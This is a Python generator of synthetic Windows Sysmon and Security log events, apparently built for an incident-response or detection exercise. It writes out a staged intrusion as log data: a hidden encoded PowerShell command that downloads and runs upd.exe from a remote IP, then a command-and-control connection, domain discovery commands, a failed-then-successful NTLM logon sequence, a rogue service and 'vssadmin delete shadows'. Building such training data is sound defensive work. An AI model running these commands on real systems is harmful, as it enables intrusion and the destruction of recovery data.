"""Windows events of two workstations, in the JSON of evtx_dump."""

import base64
import hashlib
import json

from day.cast import COMMAND, DOMAIN, PATIENT_ZERO, at, iso

def windows_events():
    rows = []

    def event(second, host, channel, number, data, provider="Microsoft-Windows-Sysmon"):
        system = {
            "Provider": {"#attributes": {"Name": provider}}, "EventID": number, "Version": 5,
            "Level": 4, "Task": number, "Opcode": 0, "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": iso(second)}},
            "EventRecordID": 51000 + len(rows), "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 3120, "ThreadID": 4416}},
            "Channel": channel, "Computer": f"{host}.{DOMAIN}",
            "Security": {"#attributes": {"UserID": "S-1-5-18"}}}
        rows.append((second, {"Event": {"#attributes": {
            "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": system, "EventData": data}}))

    def process(second, host, user, image, command, parent, parent_command, integrity="Medium"):
        mark = hashlib.sha256(f"{second}{command}".encode()).hexdigest().upper()
        event(second, host, "Microsoft-Windows-Sysmon/Operational", 1, {
            "RuleName": "-", "UtcTime": iso(second)[:-4].replace("T", " "),
            "ProcessGuid": f"{mark[:8]}-{mark[8:12]}-{mark[12:16]}-{mark[16:20]}-{mark[20:32]}",
            "ProcessId": int(mark[:4], 16), "Image": image, "FileVersion": "10.0.19041.4170",
            "Description": "-", "Product": "-", "Company": "-",
            "OriginalFileName": image.rsplit("\\", 1)[-1], "CommandLine": command,
            "CurrentDirectory": "C:\\Windows\\system32\\", "User": f"HALDENWERFT\\{user}",
            "LogonGuid": f"{mark[32:40]}-0000-0000-0000-{mark[40:52]}", "LogonId": "0x6f1c2",
            "TerminalSessionId": 1, "IntegrityLevel": integrity, "Hashes": f"SHA256={mark}",
            "ParentProcessId": int(mark[4:8], 16), "ParentImage": parent,
            "ParentCommandLine": parent_command, "ParentUser": f"HALDENWERFT\\{user}"})

    explorer, shell = "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe"
    power = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    services = "C:\\Windows\\System32\\services.exe"
    for i, (user, image) in enumerate((
            ("a.brandt", "C:\\Program Files\\Mozilla Firefox\\firefox.exe"),
            ("m.keller", "C:\\Windows\\System32\\notepad.exe"),
            ("r.fischer", "C:\\Program Files\\7-Zip\\7zFM.exe"),
            ("s.omar", "C:\\Windows\\System32\\mstsc.exe"),
            ("m.keller", "C:\\Program Files\\Mozilla Firefox\\firefox.exe"))):
        for k in range(4):
            process(at(8 + 2 * k, 5 + 7 * i, 11.25), f"WS-01{30 + i}", user, image, f'"{image}"',
                    explorer, explorer)
    encoded = base64.b64encode("iwr http://198.51.100.77/u/logo.png -OutFile $env:TEMP\\upd.exe"
                               .encode("utf-16-le")).decode()
    process(at(9, 13, 2.114), "WS-0142", "m.keller", shell,
            "cmd.exe /c start /min powershell -w hidden -nop -enc " + encoded, explorer, explorer)
    process(at(9, 13, 2.611), "WS-0142", "m.keller", power,
            "powershell -w hidden -nop -enc " + encoded, shell,
            "cmd.exe /c start /min powershell -w hidden -nop -enc " + encoded)
    upd = "C:\\Users\\m.keller\\AppData\\Local\\Temp\\upd.exe"
    event(at(9, 13, 6), "WS-0142", "Microsoft-Windows-Sysmon/Operational", 11, {
        "RuleName": "-", "UtcTime": "2026-03-11 09:13:06.000", "ProcessId": 5512, "Image": power,
        "TargetFilename": upd, "CreationUtcTime": "2026-03-11 09:13:06.000",
        "User": "HALDENWERFT\\m.keller"})
    process(at(9, 13, 7), "WS-0142", "m.keller", upd, upd + " -k", power, "powershell -enc")
    event(at(9, 14, 0.4), "WS-0142", "Microsoft-Windows-Sysmon/Operational", 3, {
        "RuleName": "-", "UtcTime": "2026-03-11 09:14:00.400", "ProcessId": 5533, "Image": upd,
        "User": "HALDENWERFT\\m.keller", "Protocol": "tcp", "Initiated": "true",
        "SourceIp": PATIENT_ZERO, "SourcePort": 51002, "DestinationIp": COMMAND,
        "DestinationPort": 8443})
    for i, command in enumerate(("whoami /all", "net group \"Domain Admins\" /domain",
                                 "nltest /dclist:", "ipconfig /all")):
        process(at(9, 31, 4 + i * 9), "WS-0142", "m.keller",
                "C:\\Windows\\System32\\%s.exe" % command.split()[0], command, shell, "cmd.exe")
    event(at(10, 20, 5), "WS-0157", "System", 7045, {
        "ServiceName": "svchelp32", "ImagePath": "%SystemRoot%\\Temp\\svchelp32.exe",
        "ServiceType": "user mode service", "StartType": "demand start",
        "AccountName": "LocalSystem"}, "Service Control Manager")
    process(at(10, 20, 6), "WS-0157", "WS-0157$", "C:\\Windows\\Temp\\svchelp32.exe",
            "C:\\Windows\\Temp\\svchelp32.exe", services, services, "System")
    process(at(10, 23), "WS-0157", "WS-0157$", "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin delete shadows /all /quiet", shell, "cmd.exe /c vssadmin", "System")
    for i in range(6):
        event(at(10, 19, i * 2), "WS-0157", "Security", 4625, {
            "TargetUserName": "administrator", "TargetDomainName": "HALDENWERFT",
            "Status": "0xc000006d", "SubStatus": "0xc000006a", "LogonType": 3,
            "IpAddress": PATIENT_ZERO, "IpPort": 50110 + i, "WorkstationName": "WS-0142"},
            "Microsoft-Windows-Security-Auditing")
    event(at(10, 19, 55), "WS-0157", "Security", 4624, {
        "TargetUserName": "svc-print", "TargetDomainName": "HALDENWERFT", "LogonType": 3,
        "IpAddress": PATIENT_ZERO, "IpPort": 50121, "WorkstationName": "WS-0142",
        "AuthenticationPackageName": "NTLM", "LogonProcessName": "NtLmSsp ", "KeyLength": 0},
        "Microsoft-Windows-Security-Auditing")
    return [json.dumps(row, ensure_ascii=False, separators=(",", ":"))
            for _, row in sorted(rows, key=lambda pair: pair[0])]
